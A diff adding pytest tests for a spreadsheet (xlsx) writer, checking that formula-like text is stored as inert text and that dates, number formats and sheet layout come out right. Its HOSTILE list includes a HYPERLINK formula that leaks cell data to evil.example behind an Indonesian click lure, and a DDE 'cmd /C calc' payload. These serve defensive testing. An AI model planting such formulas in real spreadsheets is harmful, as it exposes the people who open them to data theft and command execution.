@@ -1,0 +1,66 @@
+"""Writing Excel: text that looks like a formula stays text, numbers and dates stay real, and Desk reads it back."""
+
+from __future__ import annotations
+
+import io
+from datetime import date, datetime
+from pathlib import Path
+
+import pytest
+from openpyxl import load_workbook
+
+from desk.formats.table import read_table
+from desk.formats.xlsx_writer import Column, Sheet, write_xlsx
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?d="&D2,"Klik untuk memperbarui")',
+    "=1+1",
+    "+62 812 3456 7890",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=cmd|' /C calc'!A0",
+    "- KTP-el\n- Kartu keluarga",
+]
+
+
+def test_formula_like_text_is_written_as_text_and_read_back_unchanged(tmp_path: Path) -> None:
+    rows = [[text, n, date(2025, 10, 29)] for n, text in enumerate(HOSTILE)]
+    data = write_xlsx([Sheet("Data", [Column("Teks", 40, wrap=True), Column("Nomor", 10, "#,##0"),
+                                      Column("Tanggal", 14)], rows)])
+    sheet = load_workbook(io.BytesIO(data))["Data"]
+    for row in range(2, len(HOSTILE) + 2):
+        cell = sheet.cell(row, 1)
+        assert cell.data_type == "s" and cell.quotePrefix, (row, cell.value, cell.data_type)
+        assert sheet.cell(row, 2).data_type == "n" and sheet.cell(row, 2).number_format == "#,##0"
+        assert sheet.cell(row, 3).is_date and sheet.cell(row, 3).number_format == "DD-MM-YYYY"
+    (tmp_path / "ekspor.xlsx").write_bytes(data)
+    table = read_table(tmp_path / "ekspor.xlsx", header=True)
+    assert [row.cells[0] for row in table.rows] == [text.strip() for text in HOSTILE]
+    assert [row.cells[1] for row in table.rows] == list(range(len(HOSTILE)))
+    assert {row.cells[2] for row in table.rows} == {datetime(2025, 10, 29)}
+
+
+def test_each_sheet_has_its_heading_frozen_an_autofilter_and_widths() -> None:
+    data = write_xlsx([
+        Sheet("Rekap", [Column("Nomor", 24), Column("Nama", 40), Column("Diterima", 18)],
+              ([f"{n:04d}/PNP/DKUKMTK/X/2025", "Siti\x00 Aminah", datetime(2025, 10, 29, 9, 5)] for n in range(1, 501))),
+        Sheet("Catatan", [Column("Petunjuk", 100, wrap=True)], [["Baris pertama."]], freeze=None, autofilter=False,
+              heading_style=False),
+    ])
+    book = load_workbook(io.BytesIO(data))
+    rekap = book["Rekap"]
+    assert rekap.freeze_panes == "A2" and rekap.auto_filter.ref == "A1:C501"
+    assert [rekap.column_dimensions[c].width for c in "ABC"] == [24, 40, 18]
+    assert rekap["A1"].font.b and rekap["A1"].fill.fgColor.rgb.endswith("DDEBF7")
+    assert rekap["B2"].value == "Siti Aminah"  # what a workbook cannot hold is left out, not a crash
+    assert rekap["C2"].value == datetime(2025, 10, 29, 9, 5) and rekap["C2"].number_format == "DD-MM-YYYY HH:MM"
+    assert rekap.max_row == 501
+    notes = book["Catatan"]
+    assert notes.freeze_panes is None and notes.auto_filter.ref is None and notes["A1"].alignment.wrap_text
+
+
+def test_a_time_with_a_zone_is_a_programming_error_not_a_wrong_hour() -> None:
+    from datetime import UTC
+
+    with pytest.raises(ValueError, match="local time"):
+        write_xlsx([Sheet("X", [Column("Waktu")], [[datetime(2025, 10, 29, 1, tzinfo=UTC)]])])
